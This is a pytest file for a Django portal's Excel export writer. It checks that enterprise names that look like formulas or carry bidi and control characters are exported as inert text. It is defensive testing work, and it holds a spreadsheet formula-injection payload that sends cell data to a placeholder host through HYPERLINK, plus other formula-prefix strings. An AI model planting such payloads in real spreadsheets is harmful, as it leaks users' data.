"""The one Excel writer: text is written as text (a formula typed as a name stays inert), control and
bidi characters never make an export fail, and sheets are laid out as officials circulate them.
Every export of the portal goes through it: enterprises, pools, reporting and credit."""

from io import BytesIO

import pytest
from openpyxl import load_workbook

from core.xlsx import WorkbookWriter, display_width, safe_text
from tests.factories import EnterpriseFactory
from tests.factories.reporting import PoolEntryFactory

FORMULA = '=HYPERLINK("http://example.invalid/?d="&B2,"查看")'
HIDDEN = "a\u202eb\u0007c\x1b\x85d"  # a bidi override, a bell, an escape and a C1 control


def _cells(content: bytes):
    """Every cell of every sheet, opened as a user's spreadsheet program would (not read-only)."""
    book = load_workbook(BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _cell_with(content: bytes, text: str):
    return next(c for c in _cells(content) if c.value == text)


# --- the writer itself ---------------------------------------------------------------------------


def test_safe_text_drops_controls_and_bidi_but_keeps_lines_and_chinese():
    assert safe_text(HIDDEN) == "abcd"
    assert safe_text("第一行\r\n第二行\r第三行\t完") == "第一行\n第二行\n第三行\t完"
    assert safe_text("临沂甲陶瓷有限公司") == "临沂甲陶瓷有限公司"


@pytest.mark.parametrize("text", [FORMULA, "+1+2", "-3+4", "@SUM(A1)", "\t=1+1", "\r=1+1"])
def test_text_that_looks_like_a_formula_is_written_as_inert_text(text):
    # given a sheet with a value a spreadsheet would take for a formula
    book = WorkbookWriter()
    book.sheet("名单", headers=["企业名称"]).append([text])
    # when it is saved and opened again
    cell = _cells(book.save())[1]
    # then the cell is a string cell (not a formula), shown as typed and marked to stay text
    assert cell.data_type == "s"
    assert cell.value == safe_text(text)
    assert cell.quotePrefix is True


def test_control_characters_never_make_the_writer_fail():
    book = WorkbookWriter()
    sheet = book.sheet("a\u202e[名单]:*?", headers=[HIDDEN], title=HIDDEN)
    sheet.append([HIDDEN, 1, None])
    content = book.save()
    sheet = load_workbook(BytesIO(content)).worksheets[0]
    assert sheet.title == "a_名单____"
    assert sheet["A1"].value == "abcd" and sheet["A3"].value == "abcd"


def test_numbers_stay_numbers_and_the_layout_is_the_portals():
    # given a titled sheet with a footer and a text column
    book = WorkbookWriter()
    sheet = book.sheet(
        "名单",
        headers=["序号", "企业名称", "统一社会信用代码"],
        title="2018年名单",
        footer=True,
        text_columns=(3,),
    )
    sheet.append([1, "临沂甲陶瓷有限公司", "91371311MA3C000001"])
    ws = load_workbook(BytesIO(book.save())).worksheets[0]
    rows = list(ws.iter_rows(values_only=True))
    # then: the title row spans the columns, the header is bold and frozen, numbers are numbers
    assert rows[0][0] == "2018年名单" and "A1:C1" in {str(r) for r in ws.merged_cells.ranges}
    assert rows[1] == ("序号", "企业名称", "统一社会信用代码") and ws["A2"].font.b
    assert ws.freeze_panes == "A3"
    assert rows[2][0] == 1 and ws["A3"].data_type == "n"
    assert ws["C3"].number_format == "@"
    # and the "导出时间" footer follows a blank row
    assert rows[3] == (None, None, None) or rows[3][0] is None
    assert str(rows[4][0]).startswith("导出时间：")
    # and widths count a Chinese character as two
    assert ws.column_dimensions["B"].width >= display_width("临沂甲陶瓷有限公司") == 18


# --- every export of the portal --------------------------------------------------------------


@pytest.fixture
def hostile_names(town):
    """Two enterprises a town registered with hostile names (as stored before input checks existed)."""
    return (
        EnterpriseFactory(town=town, name=FORMULA, uscc="91371311MA3C0FRM01"),
        EnterpriseFactory(town=town, name=HIDDEN, uscc="91371311MA3C0HID02"),
    )


def _export(client, url: str) -> bytes:
    response = client.get(url)
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    return response.content


def _assert_inert(content: bytes):
    cell = _cell_with(content, FORMULA)
    assert cell.data_type == "s" and cell.quotePrefix is True
    assert not any(c.data_type == "f" for c in _cells(content))
    assert any(c.value == "abcd" for c in _cells(content))  # the controls were dropped, the text kept


@pytest.mark.django_db
def test_the_enterprise_export_writes_hostile_names_as_text(hostile_names, office_user, client_for):
    _assert_inert(_export(client_for(office_user), "/enterprises/export.xlsx"))


@pytest.mark.django_db
def test_the_pool_export_writes_hostile_names_as_text(programme, hostile_names, office_user, client_for):
    backbone = programme.pools.get(code="backbone")
    for enterprise in hostile_names:
        PoolEntryFactory(pool=backbone, year=2018, enterprise=enterprise)
    _assert_inert(_export(client_for(office_user), "/pools/2018/backbone/export.xlsx"))


@pytest.mark.django_db
def test_the_reporting_export_writes_hostile_names_as_text(programme, hostile_names, office_user, client_for):
    _assert_inert(_export(client_for(office_user), "/reporting/export/?year=2018"))


@pytest.mark.django_db
def test_the_credit_export_writes_hostile_names_as_text(hostile_names, office_user, client_for):
    _assert_inert(_export(client_for(office_user), "/credit/overview/export.xlsx"))


@pytest.mark.django_db
def test_an_imported_name_that_looks_like_a_formula_is_stored_as_text(town_user, client_for):
    # given the registry template filled in with a name that a spreadsheet would evaluate
    from django.core.files.uploadedfile import SimpleUploadedFile

    from enterprises.models import Enterprise
    from enterprises.uscc import make_uscc
    from enterprises.xlsx import headers

    book = WorkbookWriter()
    book.sheet("企业名录", headers=headers()).append([make_uscc("371311", 7), FORMULA, "罗庄街道", "30"])
    # when it is imported
    response = client_for(town_user).post(
        "/enterprises/import/", {"file": SimpleUploadedFile("企业名录.xlsx", book.save())}
    )
    # then the name is stored as the text it is, and the export writes it back as inert text
    assert response.status_code == 302, response.content.decode()[-2000:]
    assert Enterprise.objects.get(uscc=make_uscc("371311", 7)).name == FORMULA
    cell = _cell_with(_export(client_for(town_user), "/enterprises/export.xlsx"), FORMULA)
    assert cell.data_type == "s" and cell.quotePrefix is True
